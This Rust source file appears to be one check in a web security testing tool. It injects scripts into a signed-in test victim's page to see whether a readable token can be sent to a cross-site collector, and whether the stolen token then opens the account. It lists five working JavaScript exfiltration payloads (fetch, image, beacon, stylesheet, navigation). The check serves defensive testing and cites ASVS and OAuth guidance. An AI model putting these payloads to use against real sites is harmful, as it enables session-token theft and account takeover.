//! Can an injected script send a token away, and does it work where it arrives?

use std::time::Duration;

use super::super::Tried;
use super::super::readable::{Worth, opens};
use super::super::stage::Stage;
use super::super::tab::quoted;
use super::super::thief::Thief;
use crate::check::Check;
use crate::scene::Scene;
use crate::secret::Secret;
use crate::verdict::{Evidence, Verdict};

pub(super) const CHECK: Check = Check::new(
    "browser-token-sent-away",
    "an injected script cannot send a working token to somebody else",
    "ASVS 3.4.3; OAuth 2.0 for Browser-Based Applications, section 5.1",
    "Leave script nothing that works elsewhere (HttpOnly cookies, tokens bound to a device key); a Content-Security-Policy with \
     connect-src and form-action narrows the ways out, but closes not all of them.",
);

/// What an injected script would do with a stolen value, by each way out of a page; each arrives under a path of its own.
const WAYS: [(&str, &str); 5] = [
    ("fetch", "fetch(to + '/by-fetch', { method: 'POST', mode: 'no-cors', body: loot }).catch(() => {})"),
    ("image", "new Image().src = to + '/by-image?' + encodeURIComponent(loot)"),
    ("beacon", "navigator.sendBeacon(to + '/by-beacon', loot)"),
    (
        "stylesheet",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to + '/by-stylesheet?' + encodeURIComponent(loot) }))",
    ),
    (
        "navigation",
        "setTimeout(() => location.assign(to + '/by-navigation?' + encodeURIComponent(loot)), 400)",
    ),
];

pub(super) fn run<'s>(stage: &'s Stage, scene: &'s Scene) -> Tried<'s> {
    Box::pin(async move {
        let found = stage.readable(scene).await?;
        let Some(best) = found.iter().find(|readable| readable.worth >= Worth::Renews) else {
            return Ok(Verdict::pass(
                "an injected script finds nothing to send that would work elsewhere; it can act only while the page is open",
            ));
        };
        let victim = stage.victim(scene).await?;
        let tab = victim.person.tab().await?;
        let thief = Thief::around(&tab, &scene.target).await?;
        tab.open(&victim.signed_in.page).await?;
        let to = thief.cross_site.as_str().trim_end_matches('/').to_owned();
        for (_, way) in WAYS {
            let script = format!(
                "((to, loot) => {{ try {{ {way} }} catch {{}} return true; }})({}, {})",
                quoted(&to),
                quoted(best.secret.expose())
            );
            tab.evaluate(&script).await?;
        }
        // The last way leaves the page; what was under way before it has arrived by then.
        thief.arrived("/by-navigation", Duration::from_secs(3)).await;
        let arrived: Vec<(&str, Secret)> = WAYS
            .iter()
            .filter_map(|(name, _)| {
                let hit = thief.hits(&format!("/by-{name}")).into_iter().next()?;
                let query = hit.url.query().unwrap_or_default();
                let query = percent_encoding::percent_decode_str(query).decode_utf8_lossy().into_owned();
                Some((*name, Secret::new(if hit.body.is_empty() { query } else { hit.body })))
            })
            .filter(|(_, loot)| loot.same(&best.secret))
            .collect();
        tab.close().await?;
        let Some((_, loot)) = arrived.first() else {
            return Ok(Verdict::pass(format!(
                "script can read a token ({}), but the page's policy let it out by none of {} ways",
                best.place,
                WAYS.len()
            )));
        };
        let ways: Vec<&str> = arrived.iter().map(|(way, _)| *way).collect();
        let works = opens(scene, loot).await?;
        let what = if works { "and there it opened the account" } else { "a refresh token by its name" };
        let evidence = Evidence::new(format!(
            "a script in the page sent the token from {} to another site, {what}",
            best.place
        ))
        .step(format!("arrived at {to} by {}", ways.join(", ")))
        .step(if works {
            format!(
                "from another device with nothing but what arrived: {} shows the victim",
                scene.app()?.who.call
            )
        } else {
            String::from("it was not exchanged: that would end the victim's session")
        });
        Ok(CHECK.finding(evidence))
    })
}
